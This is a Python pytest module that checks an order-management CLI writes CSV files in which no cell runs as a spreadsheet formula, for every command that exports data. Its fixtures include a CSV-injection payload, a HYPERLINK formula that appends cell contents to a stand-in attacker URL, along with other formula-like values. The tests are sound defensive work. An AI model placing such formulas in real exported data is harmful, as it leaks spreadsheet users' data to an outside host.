"""CSV that a spreadsheet opens without running anything, whichever command wrote it."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from oms_core import OrderLine, SetStock, Settings
from tests.cli.conftest import Cli, KeptOms

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Click")'
SKUS = ["=1+1", "+A", "-A", "@A", "-5", "'=A", "A"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def runs(cell: str) -> bool:
    """Tell whether a spreadsheet would run a cell."""
    return cell[:1] in set("=+-@\t\r\n") and not cell[1:].isdecimal()


@pytest.fixture
def stocked(cli: Cli) -> Cli:
    for number, sku in enumerate(SKUS):
        cli.stock(sku, number, name=FORMULA)
    return cli


def test_an_export_runs_nothing_and_comes_back_as_it_was(stocked: Cli, tmp_path: Path) -> None:
    exported = stocked("inventory", "export").out
    assert not any(map(runs, cells(exported)))
    other = Cli(KeptOms.open(Settings(database_url="memory://", group_commit=False)), tmp_path)
    assert other("inventory", "import", "-", given=exported).code == 0
    assert other("inventory", "list", "-o", "json").out.count(FORMULA.replace('"', '\\"')) == len(SKUS)
    assert other("inventory", "export").out == exported
    found = {row["sku"]: row["on_hand"] for row in other("inventory", "list", "-o", "json").json}
    assert found == {sku: number for number, sku in enumerate(SKUS)}


def test_json_lines_carry_no_apostrophe(stocked: Cli) -> None:
    assert '"sku": "=1+1"' in stocked("inventory", "export", "-o", "jsonl").out


@pytest.mark.parametrize(
    "arguments",
    [
        ("inventory", "list"),
        ("inventory", "show", "--", "=1+1"),
        ("inventory", "movements", "--", "-A"),
        ("orders", "list"),
        ("orders", "events"),
        ("queue", "status"),
        ("config", "show"),
    ],
    ids=" ".join,
)
def test_no_command_writes_a_cell_that_is_run(stocked: Cli, arguments: tuple[str, ...]) -> None:
    order = stocked.place(OrderLine(sku="@A", quantity=1), customer_id="=cmd", reference="+ref", metadata={"@m": "-v"})
    stocked.oms.orders.cancel(order.id, caller=stocked.caller, reason="-because")
    own = (str(order.id),) if arguments == ("orders", "events") else ()
    options = ("-o", "csv")
    ran = stocked(*arguments[:2], *options, *arguments[2:], *own)
    assert ran.code == 0, ran.err
    assert ran.out
    assert not any(map(runs, cells(ran.out)))


def test_figures_stay_figures(cli: Cli) -> None:
    cli.stock("A", 10)
    cli("inventory", "adjust", "A", "-3", "--reason", "broken")
    assert ",-3," in cli("inventory", "movements", "A", "-o", "csv").out


def test_rejects_run_nothing_and_can_be_imported_when_they_are_put_right(cli: Cli, tmp_path: Path) -> None:
    rejects = tmp_path / "rejects.csv"
    cli.oms.stock.set(SetStock(sku="-A", on_hand=5), caller=cli.caller)
    cli.place(OrderLine(sku="-A", quantity=5))
    given = f'sku,quantity,name\n-A,1,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
    assert cli("inventory", "import", "-", "--rejects", str(rejects), given=given).code in {5, 8}
    text = rejects.read_text()
    assert not any(map(runs, cells(text)))
    (row,) = csv.DictReader(io.StringIO(text))
    again = f'sku,quantity,name\n{row["sku"]},5,"{row["name"].replace(chr(34), chr(34) * 2)}"\n'
    assert cli("inventory", "import", "-", given=again).code == 0
    assert cli("inventory", "show", "-o", "json", "--", "-A").json["name"] == FORMULA
